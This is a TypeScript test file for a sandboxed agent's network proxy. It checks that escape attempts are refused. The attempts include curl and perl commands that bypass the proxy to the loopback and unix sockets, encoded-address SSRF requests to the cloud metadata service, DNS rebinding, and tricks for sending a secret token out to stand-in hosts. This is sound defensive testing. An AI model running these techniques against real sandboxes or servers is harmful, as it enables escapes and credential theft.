// Ways out by the network: past the proxy, and through it.

import { mkdtempSync, realpathSync, rmSync } from "node:fs";
import { connect } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Touch } from "@aos/protocol";
import { dialBy } from "@aos/drivers/parts";
import { openProxy, placeholdersFor, type Proxy } from "@aos/drivers/sandbox";
import { deviceContextForTest } from "../helpers/drivers/device-context.ts";
import { type Attempt, attempt, holds, type Where } from "./attempt.ts";
import { REACHED, type StandIns, standIns } from "./stand-ins.ts";

const SECRET = "s3cret-value";
const ABSTRACT = `\0aos-escape-${process.pid}`;
let folder: string;
let path: string;
let there: StandIns;
let proxy: Proxy;
let token: string;

/** Names as the proxy looks them up. What it must not reach is there to be reached. */
const names: Record<string, () => string> = {
  "inside.example": () => "127.0.0.1",
  "metadata.example": () => "169.254.169.254",
  "mapped.example": () => "::ffff:127.0.0.1",
  "rebind.example": alternating("93.184.216.34", "127.0.0.1"),
  localhost: () => "127.0.0.1",
};

function alternating(...addresses: string[]): () => string {
  let n = 0;
  return () => addresses[n++ % addresses.length]!;
}

const NAMED = /^(allowed|whole|redirect|rebind|inside|metadata|mapped)\.example:(80|443|22)\//;
const grants = ({ kind, resource, verb }: Touch): boolean =>
  kind === "secret" ||
  NAMED.test(resource) ||
  `${resource} ${verb}` === "limited.example:443/open get";

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "aos-net-"));
  path = join(folder, "daemon.sock");
  there = await standIns([path, ABSTRACT]);
  const context = deviceContextForTest({
    grants,
    granted: () => [{ pattern: "whole.example/**", verbs: ["*"] }],
    secrets: (_name, place) =>
      place.kind === "header" && place.origin === "http://allowed.example" ? SECRET : undefined,
  });
  const dial = dialBy({ ca: there.authority });
  const { ports } = there;
  const open = async (placeholders = placeholdersFor(context, [])) =>
    openProxy({
      context,
      folder,
      placeholders,
      resolve: async (host) => [names[host]?.() ?? "93.184.216.34"],
      dial: (address, target) => {
        const isSecure = target.port === 443;
        const port = address.startsWith("93.")
          ? isSecure
            ? ports.secure
            : ports.outer
          : ports.inner;
        return dial("127.0.0.1", { ...target, port });
      },
    });
  const placeholders = placeholdersFor(context, ["TOKEN"]);
  token = placeholders.env.TOKEN!;
  proxy = await open();
  withToken = await open(placeholders);
});
let withToken: Proxy;

afterAll(async () => {
  await Promise.all([proxy?.close(), withToken?.close()]);
  await there?.[Symbol.asyncDispose]();
  rmSync(folder, { recursive: true, force: true, maxRetries: 20 });
});

const addressOfMachine = Object.values(networkInterfaces())
  .flatMap((all) => all ?? [])
  .find(({ family, internal }) => family === "IPv4" && !internal)?.address;

const variables = (node: string): Record<string, string> => ({
  NODE: node,
  INNER: String(there.ports.inner),
  DATAGRAM: String(there.ports.datagram),
  SOCKET: path,
  ABSTRACT: ABSTRACT.slice(1),
  ...(addressOfMachine === undefined ? {} : { MACHINE: addressOfMachine }),
});
const node = realpathSync(process.execPath);

const inside =
  (through: () => Proxy, env: () => Record<string, string> = () => ({})) =>
  (): Partial<Where> => ({
    env: { ...variables("/opt/node"), ...env() },
    confinement: {
      mounts: [{ from: node, at: "/opt/node", mode: "read" }],
      network: { proxySocket: through().socket, authorities: through().authorities },
    },
  });
const outside =
  (env: () => Record<string, string> = () => ({})) =>
  (): Partial<Where> => {
    const naive = `http://127.0.0.1:${there.ports.naive}`;
    return {
      env: { ...variables(node), http_proxy: naive, https_proxy: naive, NO_PROXY: "", ...env() },
    };
  };

/** Says exactly these bytes to the proxy and prints what comes back. */
const say = (...parts: string[]): string => {
  const hex = parts.map((text) => Buffer.from(text, "latin1").toString("hex")).join(" ");
  return `perl -MIO::Socket::INET -e '
    my ($where) = $ENV{http_proxy} =~ m{//(.*)}; my $s = IO::Socket::INET->new($where) or die "$!";
    for (@ARGV) { syswrite $s, pack("H*", $_); select undef, undef, undef, 0.1; }
    print while <$s>;' ${hex}`;
};
const get = (url: string, host = /\/\/([^/]*)/.exec(url)?.[1]): string =>
  say(`GET ${url} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
const tunnel = (authority: string, text: string): string =>
  say(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`, text);
/** Makes a socket of a family by its numbers. */
const family = (numbers: string): string =>
  `perl -e 'socket(my $s, ${numbers}) ? print "${REACHED} a socket\\n" : print "refused: $!\\n"'`;

const because = (pattern: RegExp) => ({ failsInside: pattern });
const reach = (name: string, script: string, more: Partial<Attempt> = {}): Attempt => ({
  name,
  script,
  succeedsOutside: REACHED,
  ...more,
});

describe("past the proxy:", () => {
  const attempts: Attempt[] = [
    reach("TCP to the loopback by curl", `curl -sS --noproxy '*' http://127.0.0.1:$INNER/`),
    reach(
      "TCP to the loopback by perl",
      `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("127.0.0.1:$ENV{INNER}") or die "$!"; print $s "GET / HTTP/1.0\\r\\n\\r\\n"; print while <$s>'`,
    ),
    reach(
      "TCP to the loopback by node",
      `"$NODE" -e 'require("net").connect(process.env.INNER, "127.0.0.1").on("error", console.log).on("data", (d) => console.log(String(d))).end("GET / HTTP/1.0\\r\\n\\r\\n")'`,
    ),
    reach(
      "TCP to the IPv4-mapped loopback",
      `curl -sS --noproxy '*' 'http://[::ffff:127.0.0.1]:'$INNER/`,
    ),
    reach(
      "TCP with a name of its own choice",
      `curl -sS --noproxy '*' --resolve allowed.example:$INNER:127.0.0.1 http://allowed.example:$INNER/`,
    ),
    reach(
      "UDP to the loopback",
      `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:$ENV{DATAGRAM}", Proto => "udp", Timeout => 2) or die "$!"; $s->send("x") or die "$!"; alarm 3; $s->recv(my $got, 100); print "$got\\n"'`,
    ),
    reach(
      "a question to a name server",
      `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:$ENV{DATAGRAM}", Proto => "udp") or die "$!"; $s->send(pack("H*", "123401000001000000000000076578616d706c6503636f6d0000010001")) or die "$!"; alarm 3; $s->recv(my $got, 100); print "$got\\n"'`,
    ),
    reach(
      "a socket by its path",
      `perl -MIO::Socket::UNIX -e 'my $s = IO::Socket::UNIX->new(Peer => $ENV{SOCKET}) or die "$!"; print while <$s>'`,
    ),
    reach(
      "a socket by its path through the root of another process",
      `for p in 1 $PPID; do perl -MIO::Socket::UNIX -e 'my $s = IO::Socket::UNIX->new(Peer => "/proc/" . shift() . "/root$ENV{SOCKET}") or die "$!"; print while <$s>' $p; done`,
    ),
    reach(
      "an abstract socket",
      `perl -MSocket -e 'socket(my $s, PF_UNIX, SOCK_STREAM, 0) or die "$!"; connect($s, pack("Sa*", AF_UNIX, "\\0$ENV{ABSTRACT}")) or die "$!"; print while <$s>'`,
    ),
    reach("a netlink socket", family("16, 3, 0"), because(/refused/)),
  ];
  if (addressOfMachine !== undefined)
    attempts.push(
      reach(
        "a socket on the machine's own address",
        `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => "$ENV{MACHINE}:9") or die "$!"; print "${REACHED} a route\\n"'`,
      ),
    );
  holds(attempts, { inside: inside(() => proxy), outside: outside() });

  // What only some machines have, and only root may.
  const rare: [name: string, numbers: string][] = [
    ["a socket to the hypervisor", "40, 1, 0"],
    ["a packet socket", "17, 3, 0"],
    ["a raw socket", "2, 3, 1"],
    ["a socket of the kernel's ciphers", "38, 5, 0"],
    ["a Bluetooth socket", "31, 3, 0"],
    ["a key management socket", "15, 3, 2"],
  ];
  test.each(rare)(
    "%s is refused inside, whether the machine has it or not",
    async (_name, numbers) => {
      const output = await attempt(family(numbers), { ...inside(() => proxy)(), sandboxed: true });

      expect(output).toMatch(/refused: (Operation not permitted|Address family not supported)/);
    },
  );
  test(
    "at least one of them succeeds outside for root",
    { skip: process.getuid?.() !== 0 },
    async () => {
      const tries = rare.map(([, numbers]) => attempt(family(numbers), { sandboxed: false }));

      expect((await Promise.all(tries)).join("")).toContain(REACHED);
    },
  );
});

describe("through the proxy:", () => {
  const METADATA = [
    "169.254.169.254",
    "2852039166",
    "0xa9fea9fe",
    "0251.0376.0251.0376",
    "169.16689662",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
    "169.254.169.254.",
    "metadata.example",
  ];
  const LOOPBACK = [
    "127.0.0.1",
    "127.1",
    "2130706433",
    "0x7f.1",
    "localhost",
    "LOCALHOST.",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "0.0.0.0",
    "inside.example",
  ];
  const refused = because(/^HTTP\/1\.1 40[03] |Agent OS: E/m);
  holds(
    [
      ...METADATA.map((host) =>
        reach(`the metadata service as ${host}`, get(`http://${host}/latest/meta-data/`), refused),
      ),
      ...LOOPBACK.map((host) => reach(`the loopback as ${host}`, get(`http://${host}/`), refused)),
      reach("the loopback by curl", "curl -sS http://127.0.0.1/", refused),
      reach(
        "the loopback by node",
        `NODE_USE_ENV_PROXY=1 HTTP_PROXY=$http_proxy "$NODE" -e 'require("http").get("http://127.0.0.1/", (r) => r.pipe(process.stdout)).on("error", console.log)'`,
        refused,
      ),
      reach("a name whose address changes after the check", get("http://rebind.example/")),
      reach("a redirect to the loopback", "curl -sSL http://redirect.example/", refused),
      reach(
        "a user before the host",
        get("http://allowed.example@127.0.0.1/", "127.0.0.1"),
        refused,
      ),
      reach(
        "a zero in the host",
        get("http://127.0.0.1\0.allowed.example/", "allowed.example"),
        refused,
      ),
      reach(
        "a Host header for another host",
        get("http://allowed.example/", "internal.example"),
        refused,
      ),
      reach("a host that was not granted", "curl -sS http://other.example/", refused),
      reach(
        "a port that was not granted",
        get("http://allowed.example:8080/", "other.example"),
        refused,
      ),
      reach("a tunnel to the loopback with TLS", "curl -sSk https://localhost/", refused),
      reach(
        "a tunnel to the loopback",
        tunnel("127.0.0.1:80", "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"),
        refused,
      ),
      reach(
        "plain text in a tunnel",
        tunnel("allowed.example:443", "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        refused,
      ),
      reach(
        "plain text in a tunnel that is passed on",
        tunnel("whole.example:443", "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        refused,
      ),
      reach(
        "a tunnel with the hello of another host",
        "curl -sSk --connect-to internal.example:443:allowed.example:443 https://internal.example/",
      ),
      reach(
        "a passed-on tunnel with the hello of another host",
        "curl -sSk --connect-to internal.example:443:whole.example:443 https://internal.example/",
      ),
      reach(
        "another host behind an allowed one's certificate",
        `curl -sSk -H 'Host: internal.example' https://allowed.example/`,
        refused,
      ),
      reach(
        "a path that was not granted, in TLS",
        "curl -sSk https://limited.example/secret",
        refused,
      ),
      reach(
        "a method that was not granted, in TLS",
        "curl -sSk -X POST https://limited.example/open",
        refused,
      ),
    ],
    { inside: inside(() => proxy), outside: outside() },
  );
});

describe("with a secret:", () => {
  holds(
    [
      { name: "see its value", script: "echo $TOKEN", succeedsOutside: SECRET },
      {
        name: "send it in a body",
        script: `curl -sS -d "$TOKEN" http://allowed.example/`,
        succeedsOutside: `HELLO ${SECRET}`,
        failsInside: "is in the body",
      },
      {
        name: "send it in a URL, and have it sent back",
        script: `curl -sS -v "http://allowed.example/?$TOKEN"`,
        succeedsOutside: SECRET,
        failsInside: "is in the URL",
      },
      {
        name: "send it to another host",
        script: `curl -sS -v -H "X-Key: $TOKEN" http://whole.example/`,
        succeedsOutside: SECRET,
        failsInside: "not for this place",
      },
    ],
    {
      inside: inside(
        () => withToken,
        () => ({ TOKEN: token }),
      ),
      outside: outside(() => ({ TOKEN: SECRET })),
    },
  );
});

describe("what is granted works, so that a refusal is one", () => {
  const run = (script: string) => attempt(script, { ...inside(() => proxy)(), sandboxed: true });

  test.each([
    ["HTTP by curl", "curl -sS http://allowed.example/"],
    [
      "HTTP by perl",
      `perl -MHTTP::Tiny -e 'print HTTP::Tiny->new->get("http://allowed.example/")->{content}'`,
    ],
    [
      "HTTP by node",
      `"$NODE" -e 'fetch("http://allowed.example/").then((r) => r.text()).then(console.log, console.log)'`,
    ],
    ["TLS that is opened, by curl", "curl -sS https://allowed.example/"],
    [
      "TLS that is opened, by node",
      `"$NODE" -e 'fetch("https://allowed.example/").then((r) => r.text()).then(console.log, console.log)'`,
    ],
    ["TLS that is passed on", "curl -sSk https://whole.example/"],
    ["a path of a host", "curl -sS https://limited.example/open"],
  ])("%s", async (_what, script) => {
    expect(await run(script)).toContain("HELLO");
  });
});

test("the proxy's socket is gone with the proxy", async () => {
  const { socket } = withToken;
  await withToken.close();

  const error = await new Promise((resolve) => connect(socket).once("error", resolve));

  expect(error).toMatchObject({ code: "ENOENT" });
});
